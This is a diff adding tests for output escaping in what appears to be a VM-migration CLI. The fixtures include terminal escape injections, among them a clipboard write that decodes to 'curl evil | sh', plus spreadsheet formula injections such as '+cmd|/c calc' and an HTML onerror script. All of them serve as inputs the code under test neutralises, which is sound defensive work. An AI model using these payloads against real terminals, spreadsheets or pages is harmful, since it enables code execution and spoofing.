@@ -6,8 +6,11 @@ import { REPORT_COLUMNS, reportRows } from '../../client/commands/report';
 import { exitCodeFor } from '../../client/commands/status';
 import { paint, useColor } from '../../client/output/color';
 import { renderProblems } from '../../client/output/problems';
+import { parse } from 'csv-parse/sync';
 import { renderReport } from '../../client/output/report';
+import type { ReportRow } from '../../client/output/report';
 import { changeLines, progressBar, renderStatus } from '../../client/output/status';
+import { jsonText, layoutText, visible, visibleValue } from '../../client/output/terminal-text';
 import type { Phase } from '../../common/contracts/migration';
 
 function vm(name: string, phase: Phase, extra: Partial<VmView> = {}): VmView {
@@ -202,4 +205,116 @@ test('colours are off with NO_COLOR, TERM=dumb or without a terminal', () => {
   assert.equal(useColor({ isTTY: true }, { TERM: 'dumb' }), false);
   assert.equal(useColor({ isTTY: false }, {}), false);
   assert.equal(paint(false).red('x'), 'x');
+});
+
+/** What a hostile inventory or a hostile answer can put in a name, a tag or a message. */
+const HOSTILE = {
+  clear: 'db\x1b[2J\x1b[H',
+  title: 'web\x1b]0;pwned\x07',
+  hyperlink: '\x1b]8;;http://evil\x07click\x1b]8;;\x07',
+  clipboard: '\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07',
+  c1Csi: 'a\u009b31mred',
+  bidi: 'invoice\u202excod.exe',
+  forgedLine: 'x\n✔ every VM completed',
+  overwrite: 'ok\rFAILED',
+  nul: 'a\x00b\x7fc\u2028d',
+};
+
+test('a control character in a value is shown as an escape, never passed to the terminal (golden)', () => {
+  assert.deepEqual(Object.fromEntries(Object.entries(HOSTILE).map(([k, v]) => [k, visible(v)])), {
+    clear: 'db\\x1b[2J\\x1b[H',
+    title: 'web\\x1b]0;pwned\\x07',
+    hyperlink: '\\x1b]8;;http://evil\\x07click\\x1b]8;;\\x07',
+    clipboard: '\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07',
+    c1Csi: 'a\\x9b31mred',
+    bidi: 'invoice\\u202excod.exe',
+    forgedLine: 'x\\n✔ every VM completed',
+    overwrite: 'ok\\rFAILED',
+    nul: 'a\\x00b\\x7fc\\u2028d',
+  });
+  assert.equal(visible('web-01 ünïcode ✔ 日本'), 'web-01 ünïcode ✔ 日本', 'printable text is untouched');
+  assert.equal(visible(visible(HOSTILE.clear)), visible(HOSTILE.clear), 'escaping twice changes nothing more');
+  const copy = visibleValue({ vms: [{ name: HOSTILE.title, n: 1, at: null }], tags: { [HOSTILE.clear]: 'v' } });
+  assert.deepEqual(copy, {
+    vms: [{ name: 'web\\x1b]0;pwned\\x07', n: 1, at: null }],
+    tags: { 'db\\x1b[2J\\x1b[H': 'v' },
+  });
+});
+
+test('composed text keeps its own layout (newlines, tabs, colours when on) and nothing else', () => {
+  const composed = `line 1\n\tline 2 \x1b[31mred\x1b[39m \x1b[2J\x1b]0;t\x07\r\u009b1m`;
+  assert.equal(
+    layoutText(composed, true),
+    'line 1\n\tline 2 \x1b[31mred\x1b[39m \\x1b[2J\\x1b]0;t\\x07\\r\\x9b1m',
+    'colour kept, the rest escaped'
+  );
+  assert.equal(
+    layoutText(composed),
+    'line 1\n\tline 2 \\x1b[31mred\\x1b[39m \\x1b[2J\\x1b]0;t\\x07\\r\\x9b1m',
+    'no colour allowed: every ESC escaped'
+  );
+});
+
+test('JSON escapes what JSON.stringify leaves raw (C1, DEL, bidi) and still parses to the same value', () => {
+  const value = { name: HOSTILE.c1Csi, bidi: HOSTILE.bidi, nul: HOSTILE.nul };
+  const text = jsonText(value);
+  assert.equal(text, '{"name":"a\\u009b31mred","bidi":"invoice\\u202excod.exe","nul":"a\\u0000b\\u007fc\\u2028d"}');
+  // eslint-disable-next-line no-control-regex -- looking for raw control characters
+  assert.doesNotMatch(text, /[\u0000-\u001f\u007f-\u009f\u202a-\u202e\u2028]/);
+  assert.deepEqual(JSON.parse(text), value);
+});
+
+function reportRow(over: Partial<ReportRow>): ReportRow {
+  const row = Object.fromEntries(REPORT_COLUMNS.map((c) => [c, null])) as ReportRow;
+  return { ...row, status: 'Failed', bytes_uploaded: 0, ...over };
+}
+
+test('CSV report: formula cells are neutralised with a quote, numbers stay numbers (golden)', () => {
+  const rows = [
+    reportRow({ name: '=HYPERLINK("http://evil","x")', error_message: '+cmd|/c calc' }),
+    reportRow({ name: '-2+3', error_type: '@SUM(A1)', bytes_uploaded: -5 }),
+    reportRow({ name: '\tx', error_message: '\rcmd' }),
+    reportRow({ name: '＝1', error_message: 'a,b "c"' }),
+    reportRow({ name: 'web-01', status: 'Completed', instance_id: 'i-0abc', duration_s: 30 }),
+  ];
+  const csv = renderReport(rows, 'csv');
+  assert.equal(
+    csv,
+    [
+      REPORT_COLUMNS.join(','),
+      `"'=HYPERLINK(""http://evil"",""x"")",Failed,,,,0,,,,,'+cmd|/c calc`,
+      "'-2+3,Failed,,,,-5,,,,'@SUM(A1),",
+      '\'\tx,Failed,,,,0,,,,,"\'\rcmd"',
+      '\'＝1,Failed,,,,0,,,,,"a,b ""c"""',
+      'web-01,Completed,i-0abc,,,0,,,30,,',
+    ].join('\n')
+  );
+  // Read back as a spreadsheet would: no cell starts with a formula character.
+  const records: string[][] = parse(csv, { from_line: 2 });
+  const cells = records.flat();
+  for (const cell of cells) assert.doesNotMatch(cell, /^[=+@\t\r＝＋＠]|^-\D/, `cell ${JSON.stringify(cell)}`);
+  assert.equal(cells.filter((c) => c.startsWith("'")).length, 7);
+});
+
+test('Markdown report: links, images, HTML and autolinks in names and messages render as text (golden)', () => {
+  const rows = [
+    reportRow({ name: '[x](http://evil)', error_message: '<img src=x onerror=alert(1)>' }),
+    reportRow({ name: '![i](http://evil/p.png)', error_message: 'see http://evil.com or www.evil.com' }),
+    reportRow({ name: '`a`|**b**_c_~d~$e$', error_message: '&lt;b&gt; \\ <http://evil>\nline 2' }),
+  ];
+  const md = renderReport(rows, 'md').split('\n');
+  assert.equal(md.length, 5);
+  const cells = md.slice(2).map((line) => line.split(' | ').map((c) => c.replace(/^\| |\s\|$/g, '')));
+  assert.deepEqual(
+    cells.map((c) => [c[0], c[10]]),
+    [
+      ['\\[x\\]\\(http\\://evil\\)', '&lt;img src=x onerror=alert\\(1\\)&gt;'],
+      ['\\!\\[i\\]\\(http\\://evil/p.png\\)', 'see http\\://evil.com or www\\.evil.com'],
+      ['\\`a\\`\\|\\*\\*b\\*\\*\\_c\\_\\~d\\~\\$e\\$', '&amp;lt;b&amp;gt; \\\\ &lt;http\\://evil&gt; line 2'],
+    ]
+  );
+  assert.ok(
+    md.slice(2).every((line) => !/[<>]|(?<!\\)[[\]]/.test(line)),
+    'no raw HTML and no unescaped bracket in any row'
+  );
 });
